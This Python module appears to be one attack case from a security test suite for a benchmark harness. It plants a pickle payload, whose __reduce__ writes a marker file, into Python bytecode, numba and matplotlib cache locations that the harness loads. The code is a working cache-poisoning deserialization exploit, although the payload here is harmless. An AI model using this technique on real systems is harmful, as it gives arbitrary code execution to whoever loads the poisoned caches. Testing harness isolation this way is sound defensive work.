"""Poison the caches that the harness unpickles or runs: numba's index, __pycache__, matplotlib's."""

import importlib.util
import os
import pickle

import numpy as np
from kit import Mean, attempt
from targets import HOME, MARKER, TOKEN

EXPECTED = "ok"


class Poison:
    def __reduce__(self):
        return open, (MARKER, "w")


def plant(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "xb") as file:
        file.write(pickle.dumps(Poison()))


def attack():
    package = importlib.util.find_spec("mbench").submodule_search_locations[0]
    for folder in (f"{package}/__pycache__", f"{package}/suite/tasks/__pycache__", f"{package}/nn/__pycache__", package,
                   f"{os.path.dirname(np.__file__)}/__pycache__", f"{HOME}/.cache/numba", f"{HOME}/.cache/matplotlib",
                   f"{HOME}/.config/matplotlib"):  # fmt: skip
        for name in (f"escape_kernels.iterate-{TOKEN}.py311.nbi", f"escape_{TOKEN}.cpython-311.pyc"):
            attempt(f"{folder}/{name}", lambda path=f"{folder}/{name}": plant(path))
    plant(os.path.join(os.environ["NUMBA_CACHE_DIR"], f"escape_kernels.iterate-{TOKEN}.py311.nbi"))  # nobody's but ours


def build(spec):
    return Mean(attack)
